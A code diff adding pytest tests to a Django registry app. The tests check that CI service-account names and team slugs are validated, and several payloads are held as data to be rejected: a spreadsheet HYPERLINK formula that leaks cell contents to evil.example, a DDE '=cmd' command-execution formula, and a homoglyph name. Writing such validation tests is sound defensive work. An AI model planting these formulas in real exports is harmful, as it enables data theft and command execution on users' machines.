@@ -9,7 +9,9 @@ import pytest
 from django.contrib.auth import authenticate, get_user_model
 from django.core.management import CommandError, call_command
 
+from registry import services
 from registry.audit import audit_verify
+from registry.errors import InvalidInput
 from registry.models import (
     KPI,
     ApiToken,
@@ -168,6 +170,58 @@ def test_create_refuses_a_taken_name(ci, engineer, model, name):
     assert ApiToken.objects.count() == tokens
     assert ServiceAccount.objects.count() == 1
     assert not hasattr(get_user_model().objects.get(username="eng"), "service_account")
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+        "=1+1",
+        "+ci",
+        "-ci",
+        "@ci",
+        "ci build",
+        "ci\tbuild",
+        "c\u0456-credit",  # a Cyrillic letter posing as a Latin i
+        "",
+        "c" * 151,
+    ],
+)
+def test_create_refuses_a_name_that_is_not_a_plain_username(model, name):
+    before = AuditEvent.objects.count()
+
+    with pytest.raises(CommandError, match=r"^name: Use at most 150 letters, digits and @"):
+        run("ci_account", "create", "--model", model.name, "--", name)
+
+    assert not ServiceAccount.objects.exists()
+    assert not ApiToken.objects.exists()
+    assert not get_user_model().objects.filter(username=name).exists()
+    assert AuditEvent.objects.count() == before
+
+
+def test_the_service_names_the_field_of_a_bad_account_name(model):
+    with pytest.raises(InvalidInput) as caught:
+        services.ci_account_create(actor=None, name="=cmd|' /C calc'!A0", models=[model])
+
+    assert list(caught.value.errors) == ["name"]
+    assert not ServiceAccount.objects.exists()
+
+
+@pytest.mark.parametrize("name", ["ci.build+2@corp", "_ci-build", "9ci"])
+def test_create_accepts_plain_usernames(model, name):
+    out, _ = run("ci_account", "create", name, "--model", model.name)
+
+    assert ServiceAccount.objects.get().user.username == name
+    assert out.strip().startswith("gh_")
+
+
+def test_a_team_slug_must_start_like_a_word(db):
+    with pytest.raises(InvalidInput) as caught:
+        services.team_create(actor=None, slug="-risk", name="Risk")
+
+    assert list(caught.value.errors) == ["slug"]
+    assert not Team.objects.exists()
+    assert services.team_create(actor=None, slug="_risk", name="Risk").slug == "_risk"
 
 
 def test_revoke_refuses_unknown_accounts_and_people(engineer):
